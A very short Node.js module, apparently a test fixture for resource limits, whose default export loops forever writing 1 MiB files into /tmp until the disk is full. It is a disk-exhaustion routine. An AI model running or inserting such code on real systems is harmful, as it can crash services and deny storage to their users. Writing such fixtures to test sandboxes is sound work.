import fs from "node:fs";

export default () => {
  for (let i = 0; ; i++) fs.writeFileSync("/tmp/" + i, Buffer.alloc(2 ** 20, 1));
};
